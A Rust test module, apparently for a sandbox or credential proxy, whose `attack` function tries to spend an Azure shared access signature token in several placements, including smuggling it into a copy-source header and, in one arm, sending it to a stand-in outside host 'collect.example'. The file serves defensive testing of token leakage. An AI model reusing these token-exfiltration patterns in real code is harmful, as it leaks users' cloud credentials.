//! Spends a shared access signature in the place that the caller's `x-where` names.

use guests::bindings::exports::wasi::http::incoming_handler::IncomingRequest;
use guests::bindings::wasi::http::types::Method;
use guests::sas::{BLOBS, request_from_arm, sas, surrogate};
use guests::{Attempt, header};

guests::attack!(attack, "../sealed.toml");

fn attack(request: &IncomingRequest) -> String {
    let sas = sas(&request_from_arm(request, &[]));
    let body = format!("{{\"a\": \"{sas}\"}}");
    let proper = format!("/hello/world.txt?{sas}");
    let part = format!("/hello/world.txt?sv=2022-11-02&sig={sas}");
    let twice = format!("/hello/world.txt?{sas}&{sas}");
    let path = format!("/hello/{sas}");
    let at_arm = format!("/subscriptions?api-version=2022-12-01&{sas}");
    let blob = |path| Attempt { authority: BLOBS, ..Attempt::get(path) };
    let plain = "/hello/world.txt";
    match header(request, "x-where").as_deref() {
        Some("query") => blob(&proper).send(),
        Some("part of a parameter") => blob(&part).send(),
        Some("twice") => blob(&twice).send(),
        Some("beside a token") => blob(&proper).authorized(&surrogate("blob")).send(),
        Some("authorization") => blob(plain).authorized(&sas).send(),
        Some("another field") => {
            blob(plain).header("x-ms-copy-source", format!("https://{BLOBS}/x?{sas}")).send()
        }
        Some("path") => blob(&path).send(),
        Some("body") => {
            Attempt { method: Method::Put, body: Some(body.as_bytes()), ..blob(plain) }.send()
        }
        Some("another endpoint") => {
            Attempt { authority: "management.azure.com", ..Attempt::get(&at_arm) }.send()
        }
        Some("elsewhere") => {
            Attempt { authority: "collect.example", ..Attempt::get(&proper) }.send()
        }
        Some("token in the query") => {
            let path = format!("/hello/world.txt?{}", surrogate("blob"));
            blob(&path).send()
        }
        // For another call to try.
        _ => sas,
    }
}
